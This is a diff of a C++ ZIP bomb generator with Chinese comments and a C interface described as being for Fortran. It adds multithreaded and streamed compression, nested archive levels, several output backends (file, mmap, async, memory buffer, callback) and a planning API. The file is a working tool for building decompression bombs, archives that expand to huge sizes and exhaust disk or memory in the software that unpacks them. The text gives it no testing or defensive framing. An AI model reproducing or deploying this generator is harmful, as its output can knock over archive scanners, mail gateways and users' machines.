+    // 各区域已由工作线程释放，advance()不再重复释放
+    return out.advance(layout.central_dir_offset());
+}
 
-    // 计算需要多少个文件来达到目标大小
-    size_t target_bytes = static_cast<size_t>(config.target_size_mb) * 1024 * 1024;
-    size_t num_files = target_bytes / pattern_size;
-    if (num_files == 0) num_files = 1;
+/**
+ * 按布局填充中央目录记录
+ */
+bool build_central_directory(CentralDirectoryBuilder& directory, const ArchiveLayout& layout,
+                             const EntryPayload& payload) {
+    const uint64_t num_files = layout.num_entries();
+    directory.reserve(num_files, entry_name_bytes(num_files));
+
+    const uint16_t flags = layout.data_descriptor() ? ZIP_FLAG_DATA_DESCRIPTOR : 0;
+    char name_buffer[32];
+    uint64_t offset = 0;
+    for (uint64_t i = 0; i < num_files; i++) {
+        const size_t name_length = format_entry_name(i, name_buffer);
+        if (directory.add(name_buffer, static_cast<uint16_t>(name_length), offset,
+                          payload.compressed_size, payload.uncompressed_size,
+                          payload.crc32, flags) == SIZE_MAX) {
+            return false;
+        }
+        offset += layout.local_header_size(i) + payload.compressed_size + layout.data_descriptor_size(i);
+    }
+    return true;
+}
 
-    // 限制文件数量，避免生成过多小文件
-    if (num_files > 1000) {
-        num_files = 1000;
-        pattern_size = target_bytes / num_files;
-        pattern_data = generate_pattern_data(pattern_size, config.pattern_char);
+/**
+ * 条目内容份数：1表示全部相同，0（不限）表示每个条目各不相同
+ */
+uint64_t payload_variants(const zipbomb_config_t& config, uint64_t num_files) {
+    const uint64_t variants = static_cast<uint64_t>(config.pattern_variants);
+    return (variants == 0 || variants > num_files) ? num_files : variants;
+}
+
+/**
+ * 按引用交给输出端的数据释放前，保证输出端不再持有它们
+ *
+ * 正常结束时由flush()写出；出错提前返回或异常退出时析构函数调用abort()丢弃，
+ * 必须在被引用的数据之后构造，先于它们析构
+ */
+class ReferencedWritesGuard {
+public:
+    explicit ReferencedWritesGuard(OutputSink& out) : out_(out) {}
+    ~ReferencedWritesGuard() {
+        if (!flushed_) out_.abort();
     }
 
-    log_message("将生成 " + std::to_string(num_files) + " 个文件");
-    log_message("每个文件大小: " + std::to_string(pattern_size) + " 字节");
+    ReferencedWritesGuard(const ReferencedWritesGuard&) = delete;
+    ReferencedWritesGuard& operator=(const ReferencedWritesGuard&) = delete;
 
-    // 存储元数据
-    std::vector<std::string> filenames;
-    std::vector<uint32_t> file_offsets;
-    std::vector<uint32_t> compressed_sizes;
-    std::vector<uint32_t> uncompressed_sizes;
-    std::vector<uint32_t> crcs;
+    bool flush() {
+        flushed_ = out_.flush();
+        return flushed_;
+    }
 
-    // 写入文件条目
-    for (size_t i = 0; i < num_files; i++) {
-        std::string internal_filename = "bomb_data_" + std::to_string(i) + ".txt";
-        uint32_t offset = static_cast<uint32_t>(zip_file.tellp());
+private:
+    OutputSink& out_;
+    bool flushed_ = false;
+};
 
-        std::vector<uint8_t> compressed = simple_compress(pattern_data);
-        uint32_t crc = calculate_crc32(pattern_data);
+/**
+ * 条目内容各不相同时并行生成所有条目
+ *
+ * 工作窃取线程池并行生成、压缩各份内容，结果经重排缓冲区按序号交给
+ * 本线程写出，在途结果最多为线程数的REORDER_SLOTS_PER_THREAD倍；
+ * 内容份数少于条目数时保留已写出的内容，供后续条目循环复用
+ */
+int write_entries_parallel(GenerationContext& ctx, OutputSink& out, CentralDirectoryBuilder& directory,
+                           const zipbomb_config_t& config, uint64_t num_files,
+                           uint64_t entry_size, uint64_t variants) {
+    using PayloadPtr = std::shared_ptr<const EntryPayload>;
+
+    const unsigned threads = resolve_thread_count(config.thread_count);
+    const uint64_t window = static_cast<uint64_t>(threads) * REORDER_SLOTS_PER_THREAD;
+    ReorderBuffer<PayloadPtr> reorder(static_cast<size_t>(window));
+    ThreadPool pool(threads);   // 在reorder之后构造，先于它析构
+
+    log_message(ctx, "并行生成 " + std::to_string(variants) + " 份不同内容，线程数: " +
+                std::to_string(threads));
+
+    std::vector<PayloadPtr> retained;
+    if (variants < num_files) retained.reserve(static_cast<size_t>(variants));
+    ReferencedWritesGuard referenced(out);
+
+    uint64_t next_submit = 0;
+    char name_buffer[32];
+    for (uint64_t i = 0; i < num_files; i++) {
+        // 补充提交，使窗口内始终有任务在执行
+        while (next_submit < variants && next_submit < i + window) {
+            const uint64_t variant = next_submit++;
+            pool.submit([&config, &reorder, &ctx, entry_size, variant] {
+                PayloadPtr payload;
+                try {
+                    payload = std::make_shared<const EntryPayload>(
+                        compress_variant(config, entry_size, variant, ctx.counters));
+                } catch (const std::bad_alloc&) {
+                    // 空结果由写入方报告为内存不足
+                }
+                reorder.put(variant, std::move(payload));
+            });
+        }
 
-        if (!write_zip_file_entry(zip_file, internal_filename, pattern_data)) {
+        PayloadPtr payload;
+        if (i < variants) {
+            payload = reorder.take();
+            if (!payload) {
+                error_log(ZIPBOMB_ERROR_MEMORY_ALLOC, "压缩条目数据时内存不足");
+                return ZIPBOMB_ERROR_MEMORY_ALLOC;
+            }
+            if (variants < num_files) retained.push_back(payload);
+        } else {
+            payload = retained[static_cast<size_t>(i % variants)];
+        }
+
+        // 不保留的内容写完即释放，不能按引用交给输出端
+        const size_t name_length = format_entry_name(i, name_buffer);
+        const uint64_t offset = out.offset();
+        PhaseTimer timer;
+        if (!write_zip_file_entry(out, name_buffer, name_length, *payload, config.use_data_descriptor,
+                                  variants < num_files)) {
             error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入文件条目失败");
             return ZIPBOMB_ERROR_WRITE_FAILED;
         }
+        ctx.counters.add(ZIPBOMB_PHASE_WRITE, timer.lap(), out.offset() - offset, 0, 0);
+        if (directory.add(name_buffer, static_cast<uint16_t>(name_length), offset,
+                          payload->compressed_size, payload->uncompressed_size,
+                          payload->crc32,
+                          config.use_data_descriptor ? ZIP_FLAG_DATA_DESCRIPTOR : 0) == SIZE_MAX) {
+            error_log(ZIPBOMB_ERROR_MEMORY_ALLOC, "中央目录名称区已满");
+            return ZIPBOMB_ERROR_MEMORY_ALLOC;
+        }
+        ctx.counters.add(ZIPBOMB_PHASE_CENTRAL_DIR, timer.lap(), 0, 0);
+
+        if ((i + 1) % 1000 == 0 || i == num_files - 1) {
+            log_message(ctx, "进度: " + std::to_string(i + 1) + "/" + std::to_string(num_files));
+        }
+    }
 
-        filenames.push_back(internal_filename);
-        file_offsets.push_back(offset);
-        compressed_sizes.push_back(static_cast<uint32_t>(compressed.size()));
-        uncompressed_sizes.push_back(static_cast<uint32_t>(pattern_data.size()));
-        crcs.push_back(crc);
+    // 保留的内容按引用交给了输出端，返回前必须写出，之后retained即被释放；
+    // 出错返回时由referenced丢弃这些引用
+    PhaseTimer timer;
+    if (!referenced.flush()) {
+        error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入文件条目失败");
+        return ZIPBOMB_ERROR_WRITE_FAILED;
+    }
+    ctx.counters.add(ZIPBOMB_PHASE_WRITE, timer.lap(), 0, 0, 0);
+
+    log_message(ctx, "窃取任务数: " + std::to_string(pool.steal_count()));
+    return ZIPBOMB_SUCCESS;
+}
 
-        // 进度报告
-        if ((i + 1) % 100 == 0 || i == num_files - 1) {
-            log_message("进度: " + std::to_string(i + 1) + "/" + std::to_string(num_files));
+/**
+ * 逐个边压缩边写出只使用一次的大条目
+ *
+ * 条目数据只流经压缩器和输出端，内存占用与条目大小无关，写出耗时计入压缩阶段；
+ * 条目之间不并行，设置了deflate_chunk_size时条目内部分块并行压缩
+ */
+int write_entries_streamed(GenerationContext& ctx, OutputSink& out, CentralDirectoryBuilder& directory,
+                           const zipbomb_config_t& config, uint64_t num_files, uint64_t entry_size) {
+    const unsigned threads = resolve_thread_count(config.thread_count);
+    log_message(ctx, "边压缩边写出 " + std::to_string(num_files) + " 个条目" +
+                (config.use_data_descriptor ? "" : "（每个条目压缩两遍）"));
+
+    char name_buffer[32];
+    for (uint64_t i = 0; i < num_files; i++) {
+        const size_t name_length = format_entry_name(i, name_buffer);
+        const uint64_t offset = out.offset();
+        EntryPayload payload;
+        const int result = write_streamed_entry(out, name_buffer, name_length, config, entry_size, i, threads,
+                                                ctx.counters, payload);
+        if (result != ZIPBOMB_SUCCESS) {
+            error_log(result, result == ZIPBOMB_ERROR_COMPRESS_FAIL ? "压缩结果与本地头不一致" : "写入文件条目失败");
+            return result;
         }
+        PhaseTimer timer;
+        if (directory.add(name_buffer, static_cast<uint16_t>(name_length), offset,
+                          payload.compressed_size, payload.uncompressed_size, payload.crc32,
+                          config.use_data_descriptor ? ZIP_FLAG_DATA_DESCRIPTOR : 0) == SIZE_MAX) {
+            error_log(ZIPBOMB_ERROR_MEMORY_ALLOC, "中央目录名称区已满");
+            return ZIPBOMB_ERROR_MEMORY_ALLOC;
+        }
+        ctx.counters.add(ZIPBOMB_PHASE_CENTRAL_DIR, timer.lap(), 0, 0);
+
+        log_message(ctx, "进度: " + std::to_string(i + 1) + "/" + std::to_string(num_files));
+    }
+    return ZIPBOMB_SUCCESS;
+}
+
+/**
+ * 创建中央目录
+ *
+ * 整个中央目录和结束记录先序列化到一块连续缓冲区，再一次写出；
+ * 序列化计入中央目录阶段，写出计入写入阶段
+ */
+bool write_central_directory(OutputSink& out, const CentralDirectoryBuilder& directory,
+                             PhaseCounters& counters) {
+    PhaseTimer timer;
+    std::vector<uint8_t> buffer = directory.serialize(out.offset());
+    const BufferLease lease(counters, buffer.size());
+    counters.add(ZIPBOMB_PHASE_CENTRAL_DIR, timer.lap(), 0, buffer.size());
+    const bool written = out.write_ref(buffer.data(), buffer.size()) && out.flush();
+    counters.add(ZIPBOMB_PHASE_WRITE, timer.lap(), buffer.size(), 0, 0);
+    return written;
+}
+
+/**
+ * 检查配置的取值范围，不做任何压缩
+ *
+ * 生成、规划和设置上下文配置前都先经过这里，避免除零或负数被当成超大的无符号数
+ *
+ * @return 配置有效时返回nullptr，否则返回问题说明
+ */
+const char* check_config(const zipbomb_config_t& config) {
+    if (config.target_size_bytes <= 0 || config.target_size_bytes > MAX_TARGET_SIZE_BYTES) return "目标大小无效";
+    if (config.compression_level < 1 || config.compression_level > 9) return "压缩级别无效";
+    if (config.pattern_size <= 0) return "模式大小无效";
+    if (config.use_nested_compression &&
+        (config.nested_levels < 1 || config.nested_levels > MAX_NESTED_LEVELS)) {
+        return "嵌套层数无效";
+    }
+    if (config.max_entries < 0) return "条目数上限无效";
+    if (config.output_mode < ZIPBOMB_OUTPUT_SYNC || config.output_mode > ZIPBOMB_OUTPUT_MMAP) return "输出模式无效";
+    if (config.io_queue_depth < 0 || config.io_queue_depth > MAX_IO_QUEUE_DEPTH) return "I/O队列深度无效";
+    if (config.thread_count < 0 || config.thread_count > MAX_THREAD_COUNT) return "线程数无效";
+    if (config.pattern_kind < ZIPBOMB_PATTERN_MARKED || config.pattern_kind > ZIPBOMB_PATTERN_MIXED) {
+        return "内容模式无效";
+    }
+    if (config.pattern_period < 0) return "模式周期无效";
+    if (config.pattern_variants < 0) return "内容份数无效";
+    if (config.deflate_chunk_size < 0 ||
+        (config.deflate_chunk_size > 0 && config.deflate_chunk_size < MIN_DEFLATE_CHUNK_SIZE)) {
+        return "分块压缩大小无效";
+    }
+    return nullptr;
+}
+
+/**
+ * 根据配置确定条目数和每个条目的大小
+ *
+ * 条目数受max_entries限制（0表示不限制），超出时增大每个条目
+ */
+void plan_entries(const zipbomb_config_t& config, uint64_t& num_files, uint64_t& entry_size) {
+    const uint64_t target_bytes = static_cast<uint64_t>(config.target_size_bytes);
+    entry_size = static_cast<uint64_t>(config.pattern_size);
+    num_files = target_bytes / entry_size;
+    if (num_files == 0) num_files = 1;
+
+    const uint64_t max_entries = static_cast<uint64_t>(config.max_entries);
+    if (max_entries > 0 && num_files > max_entries) {
+        num_files = max_entries;
+        entry_size = target_bytes / num_files;
+    }
+}
+
+/**
+ * 按配置打开输出端
+ *
+ * @param total_size 规划的归档大小，内存映射模式按此大小映射文件；
+ *                   为0表示布局无法预先确定（条目内容不同、边压缩边写出或嵌套），此时内存映射模式退回同步写
+ */
+std::unique_ptr<OutputSink> open_output_sink(const GenerationContext& ctx, const std::string& filename,
+                                             const zipbomb_config_t& config, uint64_t total_size) {
+    if (filename == STDOUT_FILENAME) {
+        // 管道和终端不能映射、预分配或按偏移写，只能顺序写
+        return std::unique_ptr<OutputSink>(new FdSink(STDOUT_FILENO, false));
+    }
+    if (config.output_mode == ZIPBOMB_OUTPUT_MMAP) {
+        if (total_size > 0) return open_mmap_file_sink(filename, total_size);
+        log_message(ctx, "归档布局无法预先确定，内存映射模式改用同步写");
+        return open_file_sink(filename);
+    }
+    if (config.output_mode == ZIPBOMB_OUTPUT_SYNC) {
+        return open_file_sink(filename);
+    }
+    return open_async_file_sink(filename, config.output_mode == ZIPBOMB_OUTPUT_ASYNC,
+                                static_cast<unsigned>(std::max(config.io_queue_depth, 0)),
+                                config.use_direct_io);
+}
+
+/**
+ * 记录输出端的I/O统计
+ */
+void record_io_stats(GenerationContext& ctx, const OutputSink& sink) {
+    zipbomb_io_stats_t& io = ctx.io_stats;
+    io = zipbomb_io_stats_t();
+    if (const FdSink* fd_sink = dynamic_cast<const FdSink*>(&sink)) {
+        std::strncpy(io.backend, "sync", sizeof(io.backend) - 1);
+        io.writes_submitted = fd_sink->syscall_count();
+        io.bytes_written = sink.offset();
+        io.max_queue_depth = 1;
+    } else if (const AsyncSink* async_sink = dynamic_cast<const AsyncSink*>(&sink)) {
+        const AsyncIoStats& stats = async_sink->stats();
+        std::strncpy(io.backend, stats.backend, sizeof(io.backend) - 1);
+        io.writes_submitted = stats.writes_submitted;
+        io.bytes_written = stats.bytes_written;
+        io.max_queue_depth = stats.max_in_flight;
+        io.stall_ns = stats.stall_ns;
+        io.direct_io = stats.direct_io;
+    } else if (const MmapSink* mapped = dynamic_cast<const MmapSink*>(&sink)) {
+        std::strncpy(io.backend, "mmap", sizeof(io.backend) - 1);
+        io.writes_submitted = mapped->release_count();
+        io.bytes_written = mapped->size();
+    } else if (const MemorySink* memory = dynamic_cast<const MemorySink*>(&sink)) {
+        std::strncpy(io.backend, "memory", sizeof(io.backend) - 1);
+        io.writes_submitted = memory->grow_count();
+        io.bytes_written = sink.offset();
+    } else if (const CallbackSink* callback = dynamic_cast<const CallbackSink*>(&sink)) {
+        std::strncpy(io.backend, "callback", sizeof(io.backend) - 1);
+        io.writes_submitted = callback->call_count();
+        io.bytes_written = sink.offset();
+        io.max_queue_depth = 1;
+    }
+}
+
+/**
+ * 按规划的归档大小打开输出端，大小为0表示无法预先确定
+ */
+using SinkOpener = std::function<std::unique_ptr<OutputSink>(uint64_t total_size)>;
+
+/**
+ * 核心ZIP炸弹生成函数
+ *
+ * @param ctx 生成上下文，记录日志开关和本次统计
+ * @param target 输出目标的描述（仅用于日志）
+ * @param open_sink 打开输出端
+ */
+int generate_archive(GenerationContext& ctx, const std::string& target, const zipbomb_config_t& config,
+                     const SinkOpener& open_sink) {
+    ctx.start_time = std::chrono::steady_clock::now();
+    ctx.end_time = ctx.start_time;
+    ctx.compression_ratio = 0.0;
+    ctx.archive_size = 0;
+    ctx.io_stats = zipbomb_io_stats_t();
+    ctx.counters.reset();
+
+    if (const char* problem = check_config(config)) {
+        error_log(ZIPBOMB_ERROR_INVALID_PARAM, problem);
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+
+    log_message(ctx, "开始生成ZIP炸弹: " + target);
+    log_message(ctx, "目标大小: " + std::to_string(config.target_size_bytes) + " 字节");
+
+    uint64_t num_files;
+    uint64_t entry_size;
+    plan_entries(config, num_files, entry_size);
+    const uint64_t variants = payload_variants(config, num_files);
+
+    log_message(ctx, "将生成 " + std::to_string(num_files) + " 个文件");
+    log_message(ctx, "每个文件大小: " + std::to_string(entry_size) + " 字节");
+
+    // 每份内容只用一次的大条目边压缩边写出，压缩结果不在内存中保留
+    const bool streamed = variants == num_files && entry_size > STREAM_ENTRY_SIZE;
+
+    // 所有条目内容相同时先规划布局：条目数据只压缩一次，最终大小和所有偏移随之确定
+    EntryPayloadCache payload_cache;
+    const EntryPayload* payload = nullptr;
+    std::unique_ptr<ArchiveLayout> layout;
+    if (variants == 1 && !streamed) {
+        payload = &payload_cache.get(config, entry_size, resolve_thread_count(config.thread_count), ctx.counters);
+        layout.reset(new ArchiveLayout(num_files, payload->uncompressed_size, payload->compressed_size,
+                                       config.use_data_descriptor));
+        log_message(ctx, "归档大小: " + std::to_string(layout->total_size()) + " 字节");
+    }
+
+    // 嵌套时布局描述的是最内层归档，输出文件的大小无法预先确定
+    const int wrap_levels = config.use_nested_compression ? config.nested_levels - 1 : 0;
+    const bool file_layout = layout && wrap_levels <= 0;
+
+    std::unique_ptr<OutputSink> zip_file = open_sink(file_layout ? layout->total_size() : 0);
+    if (!zip_file) {
+        error_log(ZIPBOMB_ERROR_FILE_CREATE, "无法创建输出文件");
+        return ZIPBOMB_ERROR_FILE_CREATE;
+    }
+
+    if (file_layout && !zip_file->preallocate(layout->total_size())) {
+        error_log(ZIPBOMB_ERROR_WRITE_FAILED, "磁盘空间不足，无法预分配输出文件");
+        return ZIPBOMB_ERROR_WRITE_FAILED;
+    }
+
+    // 嵌套压缩：由外向内逐层包装，最内层归档的字节流经各层压缩后写入文件；
+    // 最内层的条目与不嵌套时走同一条路径，只用一次的大条目同样边压缩边写出
+    OutputSink* file_sink = zip_file.get();
+    for (int level = wrap_levels; level >= 1; level--) {
+        std::unique_ptr<NestedArchiveSink> nested(new NestedArchiveSink(
+            std::move(zip_file), "bomb_level_" + std::to_string(level) + ".zip",
+            config.compression_level));
+        if (!nested->begin()) {
+            error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入嵌套归档头失败");
+            return ZIPBOMB_ERROR_WRITE_FAILED;
+        }
+        zip_file = std::move(nested);
+    }
+    if (wrap_levels > 0) {
+        log_message(ctx, "嵌套层数: " + std::to_string(config.nested_levels));
+    }
+
+    // 条目元数据集中保存在中央目录构建器中
+    CentralDirectoryBuilder directory;
+
+    if (streamed) {
+        directory.reserve(num_files, entry_name_bytes(num_files));
+        int result = write_entries_streamed(ctx, *zip_file, directory, config, num_files, entry_size);
+        if (result != ZIPBOMB_SUCCESS) return result;
+    } else if (!layout) {
+        // 条目内容不同：并行压缩，按序写出
+        directory.reserve(num_files, entry_name_bytes(num_files));
+        int result = write_entries_parallel(ctx, *zip_file, directory, config, num_files, entry_size, variants);
+        if (result != ZIPBOMB_SUCCESS) return result;
+    } else {
+        // 写入文件条目：所有条目复用缓存的压缩结果
+        PhaseTimer timer;
+        if (MmapSink* mapped = dynamic_cast<MmapSink*>(zip_file.get())) {
+            if (!write_entries_mapped(*mapped, *layout, *payload, resolve_thread_count(config.thread_count))) {
+                error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入文件条目失败");
+                return ZIPBOMB_ERROR_WRITE_FAILED;
+            }
+        } else {
+            char name_buffer[32];
+            for (uint64_t i = 0; i < num_files; i++) {
+                const size_t name_length = format_entry_name(i, name_buffer);
+                if (!write_zip_file_entry(*zip_file, name_buffer, name_length, *payload,
+                                          config.use_data_descriptor)) {
+                    error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入文件条目失败");
+                    return ZIPBOMB_ERROR_WRITE_FAILED;
+                }
+
+                // 进度报告
+                if ((i + 1) % 100000 == 0 || i == num_files - 1) {
+                    log_message(ctx, "进度: " + std::to_string(i + 1) + "/" + std::to_string(num_files));
+                }
+            }
+        }
+        ctx.counters.add(ZIPBOMB_PHASE_WRITE, timer.lap(), zip_file->offset(), 0, 0);
+
+        if (zip_file->offset() != layout->central_dir_offset()) {
+            error_log(ZIPBOMB_ERROR_WRITE_FAILED, "实际输出与规划的布局不一致");
+            return ZIPBOMB_ERROR_WRITE_FAILED;
+        }
+
+        timer.lap();
+        if (!build_central_directory(directory, *layout, *payload)) {
+            error_log(ZIPBOMB_ERROR_MEMORY_ALLOC, "中央目录名称区已满");
+            return ZIPBOMB_ERROR_MEMORY_ALLOC;
+        }
+        ctx.counters.add(ZIPBOMB_PHASE_CENTRAL_DIR, timer.lap(), 0, 0, num_files);
     }
 
     // 写入中央目录
-    if (!write_central_directory(zip_file, filenames, file_offsets,
-                                compressed_sizes, uncompressed_sizes, crcs)) {
+    if (!write_central_directory(*zip_file, directory, ctx.counters) ||
+        (layout && zip_file->offset() != layout->total_size())) {
         error_log(ZIPBOMB_ERROR_WRITE_FAILED, "写入中央目录失败");
         return ZIPBOMB_ERROR_WRITE_FAILED;
     }
 
-    zip_file.close();
+    PhaseTimer close_timer;
+    if (!zip_file->close()) {
+        error_log(ZIPBOMB_ERROR_WRITE_FAILED, "关闭输出文件失败");
+        return ZIPBOMB_ERROR_WRITE_FAILED;
+    }
+    ctx.counters.add(ZIPBOMB_PHASE_WRITE, close_timer.lap(), 0, 0, 0);
+    record_io_stats(ctx, *file_sink);
+    ctx.counters.set_write_totals(ctx.io_stats.bytes_written, ctx.io_stats.writes_submitted);
 
-    g_end_time = std::chrono::steady_clock::now();
+    ctx.end_time = std::chrono::steady_clock::now();
 
     // 计算压缩比
-    int64_t file_size = get_file_size(filename.c_str());
+    const int64_t file_size = static_cast<int64_t>(file_sink->offset());
+    ctx.archive_size = file_sink->offset();
     if (file_size > 0) {
-        g_compression_ratio = static_cast<double>(file_size) / static_cast<double>(target_bytes);
+        ctx.compression_ratio = static_cast<double>(file_size) /
+                              static_cast<double>(config.target_size_bytes);
     }
 
-    log_message("ZIP炸弹生成完成!");
-    log_message("文件大小: " + std::to_string(file_size) + " 字节");
-    log_message("压缩比: " + std::to_string(g_compression_ratio * 100.0) + "%");
+    log_message(ctx, "ZIP炸弹生成完成!");
+    log_message(ctx, "文件大小: " + std::to_string(file_size) + " 字节");
+    log_message(ctx, "压缩比: " + std::to_string(ctx.compression_ratio * 100.0) + "%");
+    log_message(ctx, std::string("输出后端: ") + ctx.io_stats.backend +
+                ", 写请求: " + std::to_string(ctx.io_stats.writes_submitted) +
+                ", 最大队列深度: " + std::to_string(ctx.io_stats.max_queue_depth) +
+                ", 等待I/O: " + std::to_string(ctx.io_stats.stall_ns / 1000) + " 微秒");
 
     return ZIPBOMB_SUCCESS;
 }
 
+/**
+ * 生成到文件
+ */
+int create_zipbomb_internal(GenerationContext& ctx, const std::string& filename, const zipbomb_config_t& config) {
+    ctx.log_to_stderr = filename == STDOUT_FILENAME;
+    const int result = generate_archive(ctx, filename, config, [&](uint64_t total_size) {
+        return open_output_sink(ctx, filename, config, total_size);
+    });
+    ctx.log_to_stderr = false;
+    return result;
+}
+
+/**
+ * 生成到内存缓冲区
+ */
+int create_zipbomb_to_buffer_internal(GenerationContext& ctx, const zipbomb_config_t& config,
+                                      zipbomb_buffer_t& buffer) {
+    if (buffer.data && buffer.capacity < 0) return ZIPBOMB_ERROR_INVALID_PARAM;
+
+    int result = generate_archive(ctx, "内存缓冲区", config, [&buffer](uint64_t) {
+        return std::unique_ptr<OutputSink>(new MemorySink(buffer));
+    });
+    if (result == ZIPBOMB_SUCCESS && buffer.size > buffer.capacity) {
+        result = ZIPBOMB_ERROR_BUFFER_TOO_SMALL;
+    }
+    return result;
+}
+
+/**
+ * 生成并交给回调函数
+ */
+int create_zipbomb_to_callback_internal(GenerationContext& ctx, const zipbomb_config_t& config,
+                                        zipbomb_write_callback_t callback, void* user_data) {
+    return generate_archive(ctx, "回调输出", config, [callback, user_data](uint64_t) {
+        return std::unique_ptr<OutputSink>(new CallbackSink([callback, user_data](const uint8_t* data, size_t len) {
+            return callback(data, len, user_data) == 0;
+        }));
+    });
+}
+
+/**
+ * 在C接口边界把内存不足转换为错误代码，异常不能穿过extern "C"函数
+ */
+template <typename Generate>
+int guard_allocation(Generate generate) {
+    try {
+        return generate();
+    } catch (const std::bad_alloc&) {
+        error_log(ZIPBOMB_ERROR_MEMORY_ALLOC, "生成过程中内存不足");
+        return ZIPBOMB_ERROR_MEMORY_ALLOC;
+    }
+}
+
+/**
+ * 汇总上下文最近一次生成的统计
+ */
+void collect_stats(const GenerationContext& ctx, zipbomb_stats_t& stats) {
+    stats = zipbomb_stats_t();
+    const auto wall = std::chrono::duration_cast<std::chrono::nanoseconds>(ctx.end_time - ctx.start_time);
+    stats.wall_time_ns = static_cast<uint64_t>(wall.count());
+    stats.processing_time = static_cast<double>(stats.wall_time_ns) / 1e9;
+    stats.compression_ratio = ctx.compression_ratio;
+    stats.archive_size = static_cast<int64_t>(ctx.archive_size);
+    stats.io = ctx.io_stats;
+    stats.peak_buffer_bytes = ctx.counters.peak_buffer_bytes();
+    ctx.counters.snapshot(stats.phases);
+}
+
 } // namespace ZipBombGenerator
 
+/**
+ * 不透明的上下文句柄
+ */
+struct zipbomb_ctx {
+    explicit zipbomb_ctx(const zipbomb_config_t& config) : state(config) {}
+
+    ZipBombGenerator::GenerationContext state;
+};
+
 // ============================================================================
 // C接口实现 (供Fortran调用)
 // ============================================================================
@@ -382,7 +1191,10 @@ void create_zipbomb(const char* filename) {
         return;
     }
 
-    int result = ZipBombGenerator::create_zipbomb_internal(filename, ZipBombGenerator::g_config);
+    ZipBombGenerator::GenerationContext& ctx = ZipBombGenerator::g_default_context;
+    int result = ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_internal(ctx, filename, ctx.config);
+    });
     if (result != ZIPBOMB_SUCCESS) {
         std::cerr << "ZIP炸弹生成失败，错误代码: " << result << std::endl;
     }
@@ -393,29 +1205,171 @@ int create_zipbomb_with_config(const char* filename, const zipbomb_config_t* con
         return ZIPBOMB_ERROR_INVALID_PARAM;
     }
 
-    return ZipBombGenerator::create_zipbomb_internal(filename, *config);
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_internal(ZipBombGenerator::g_default_context, filename, *config);
+    });
+}
+
+int create_zipbomb_to_buffer(const zipbomb_config_t* config, zipbomb_buffer_t* buffer) {
+    if (!config || !buffer) {
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_to_buffer_internal(ZipBombGenerator::g_default_context,
+                                                                   *config, *buffer);
+    });
+}
+
+void zipbomb_buffer_free(zipbomb_buffer_t* buffer) {
+    if (!buffer || !buffer->owned) return;
+    std::free(buffer->data);
+    buffer->data = nullptr;
+    buffer->size = 0;
+    buffer->capacity = 0;
+    buffer->owned = false;
+}
+
+int create_zipbomb_to_callback(const zipbomb_config_t* config, zipbomb_write_callback_t callback,
+                               void* user_data) {
+    if (!config || !callback) {
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_to_callback_internal(ZipBombGenerator::g_default_context,
+                                                                     *config, callback, user_data);
+    });
 }
 
 void set_compression_params(int target_size, int compression_level) {
-    ZipBombGenerator::g_config.target_size_mb = target_size;
-    ZipBombGenerator::g_config.compression_level = compression_level;
-    ZipBombGenerator::log_message("压缩参数已更新");
+    ZipBombGenerator::GenerationContext& ctx = ZipBombGenerator::g_default_context;
+    ctx.config.target_size_bytes = static_cast<int64_t>(target_size) * 1024 * 1024;
+    ctx.config.compression_level = compression_level;
+    ZipBombGenerator::log_message(ctx, "压缩参数已更新");
 }
 
 zipbomb_config_t get_default_config(void) {
-    return ZipBombGenerator::g_config;
+    return ZipBombGenerator::g_default_context.config;
+}
+
+const char* zipbomb_check_config(const zipbomb_config_t* config) {
+    if (!config) return "配置为空";
+    return ZipBombGenerator::check_config(*config);
+}
+
+int zipbomb_plan(const zipbomb_config_t* config, zipbomb_plan_t* plan) {
+    if (!config || !plan || ZipBombGenerator::check_config(*config)) {
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+    // 嵌套时外层归档的大小只有压缩各层之后才知道，规划只描述单层归档
+    if (config->use_nested_compression && config->nested_levels > 1) {
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+
+    uint64_t num_files;
+    uint64_t entry_size;
+    ZipBombGenerator::plan_entries(*config, num_files, entry_size);
+    const uint64_t variants = ZipBombGenerator::payload_variants(*config, num_files);
+
+    // 每份内容压缩一次，压缩输出直接丢弃，只保留压缩后大小和CRC
+    ZipBombGenerator::PhaseCounters counters;
+    std::vector<uint64_t> compressed_sizes(static_cast<size_t>(variants));
+    uint32_t first_crc = 0;
+    uint64_t uncompressed_size = 0;
+    std::atomic<bool> out_of_memory(false);
+    auto measure = [&](uint64_t variant, unsigned threads) {
+        try {
+            ZipBombGenerator::DiscardSink discard;
+            ZipBombGenerator::EntryPayload payload;
+            ZipBombGenerator::deflate_variant(*config, entry_size, variant, discard, payload, counters, threads);
+            compressed_sizes[static_cast<size_t>(variant)] = payload.compressed_size;
+            if (variant == 0) {
+                first_crc = payload.crc32;
+                uncompressed_size = payload.uncompressed_size;
+            }
+        } catch (const std::bad_alloc&) {
+            out_of_memory = true;
+        }
+    };
+    const unsigned threads = ZipBombGenerator::resolve_thread_count(config->thread_count);
+    if (variants == 1) {
+        measure(0, threads);
+    } else {
+        ZipBombGenerator::ThreadPool pool(threads);
+        for (uint64_t v = 0; v < variants; v++) {
+            pool.submit([&measure, v] { measure(v, 1); });
+        }
+        pool.wait_idle();
+    }
+    if (out_of_memory) return ZIPBOMB_ERROR_MEMORY_ALLOC;
+
+    const ZipBombGenerator::ArchiveLayout layout(num_files, uncompressed_size, compressed_sizes,
+                                                 config->use_data_descriptor);
+
+    plan->num_entries = static_cast<int64_t>(layout.num_entries());
+    plan->distinct_payloads = static_cast<int64_t>(variants);
+    plan->entry_uncompressed_size = static_cast<int64_t>(layout.entry_uncompressed_size());
+    plan->entry_compressed_size = static_cast<int64_t>(layout.entry_compressed_size(0));
+    plan->entry_crc32 = first_crc;
